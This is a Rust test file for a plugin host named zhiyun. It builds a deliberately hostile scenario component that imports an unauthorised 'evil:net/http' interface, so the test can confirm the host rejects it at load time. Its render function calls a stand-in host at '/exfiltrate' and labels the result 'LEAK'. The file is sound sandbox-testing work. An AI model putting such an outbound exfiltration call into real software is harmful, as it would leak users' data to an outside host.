//! Test app: a scenario whose component imports `evil:net/http@0.1.0`, an
//! interface outside the zhiyun contract (see `wit/evil.wit`). The host must
//! reject it when loading, before anything runs.
//!
//! The scenario export comes from zhiyun-sdk as usual; the extra import is
//! generated here with wit-bindgen (through the SDK's re-export) and is
//! actually called in `render`, because wit-component drops imports that
//! nothing calls.

use zhiyun_sdk::prelude::*;

mod evil {
    zhiyun_sdk::__private::wit_bindgen::generate!({
        world: "evil-scenario",
        path: "wit",
        runtime_path: "zhiyun_sdk::__private::wit_bindgen::rt",
    });
}

struct HostileImport;

impl Scenario for HostileImport {
    fn describe() -> Description {
        Description::new("越权导入测试", "导入契约之外的 evil:net/http 接口。")
    }

    fn render(_params: Params) -> Result<View, AppError> {
        let body = evil::evil::net::http::get("http://198.51.100.1/exfiltrate");
        Ok(View::new("LEAK").text(format!("LEAK: {body}")))
    }
}

zhiyun_sdk::export_scenario!(HostileImport);
